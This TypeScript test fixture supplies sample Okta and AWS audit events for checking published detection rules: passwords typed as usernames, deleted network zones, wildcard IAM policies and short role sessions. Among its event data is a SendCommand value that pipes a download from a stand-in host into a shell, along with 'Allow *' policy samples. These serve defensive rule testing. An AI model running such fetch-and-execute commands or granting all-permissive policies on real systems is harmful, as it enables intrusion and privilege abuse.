import { fileURLToPath } from 'node:url';
import type { AuditEvent } from '../../../../src/audit/index.js';
import { at, type History } from './history.js';

/** The team's rules use the facts that public rules about Okta and AWS name. */
export const PUBLIC_RULES = fileURLToPath(new URL('public-rules.yml', import.meta.url));

const fact = (source: string, details: Readonly<Record<string, unknown>>) =>
  at(0, 'public_event', { actor: { type: 'user', id: 'eve' }, details: { source, ...details } });

function finds(rule: string, found: AuditEvent, ...passed: readonly AuditEvent[]): History {
  return {
    rule,
    message: 'what a published rule finds, and what is near it',
    events: [found, ...passed],
    alerts: [rule],
  };
}

const okFailure = { eventType: 'user.session.start', result: 'FAILURE' };
const policy = (action: string, arn: string) => ({
  ...{ eventName: 'CreatePolicyVersion', arn },
  document: `{"Effect": "Allow", "Action": "${action}", "Resource": "*"}`,
});
const sends = (command: string) => fact('aws', { eventName: 'SendCommand', command });
const takes = (seconds: number) => fact('aws', { eventName: 'AssumeRole', seconds });

export const PUBLIC_HISTORIES: readonly History[] = [
  finds(
    'okta_password_as_name',
    fact('okta', { ...okFailure, name: 'correct horse battery' }),
    fact('okta', { ...okFailure, name: 'ada@example.com' }),
    fact('okta', { ...okFailure, name: '0oa1' }),
  ),
  finds(
    'okta_new_behaviour',
    fact('okta', { eventType: 'policy.evaluate_sign_on', behaviors: '{New Device=POSITIVE}' }),
    fact('okta', { eventType: 'policy.evaluate_sign_on', behaviors: '{New Device=NEGATIVE}' }),
  ),
  finds('okta_zone_changed', fact('okta', { eventType: 'zone.delete' }), fact('okta', { eventType: 'zone.create' })),
  finds(
    'aws_policy_allows_all',
    fact('aws', policy('*', 'arn:aws:iam::1:user/eve')),
    fact('aws', policy('*', 'arn:aws:sts::1:assumed-role/ci-terraform-1')),
    fact('aws', policy('s3:Get', 'arn:aws:iam::1:user/eve')),
  ),
  finds(
    'aws_command_loads',
    sends('CURL https://e.example/x | sh'),
    sends('curly | shell'),
    sends(`${'curl'.repeat(8000)}|`),
  ),
  finds('aws_short_role', takes(900), takes(3600), takes(0)),
];
